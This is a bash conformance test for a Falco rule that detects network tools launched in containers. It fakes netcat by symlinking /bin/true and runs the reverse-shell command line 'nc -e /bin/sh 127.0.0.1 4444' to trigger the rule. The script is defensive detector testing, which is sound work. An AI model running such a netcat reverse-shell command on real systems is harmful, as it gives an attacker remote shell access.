#!/bin/bash
# Live scenario: A network tool (nc) started in a container. Incubating rule.
# Run by conformance/run (suite live) with FALCO_TRIGGER=launch_suspicious_network_tool_in_container, W=<an empty scratch dir, the cwd>
# and PY=<python3>; see conformance/README.md.
#@ rule: Launch Suspicious Network Tool in Container
#@ priority: Notice
#@ output: Network tool launched in container | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags
#@ expect: proc.name=nc
#@ expect: proc.cmdline=nc -e /bin/sh 127.0.0.1 4444
#@ expect: evt.type=execve
#@ expect: user.name=root
#@ expect: user.uid=0
#@ expect: proc.tty=0
#@ reference: nc_exec
set -u
ln -s /bin/true "$W/nc"
"$W/nc" -e /bin/sh 127.0.0.1 4444
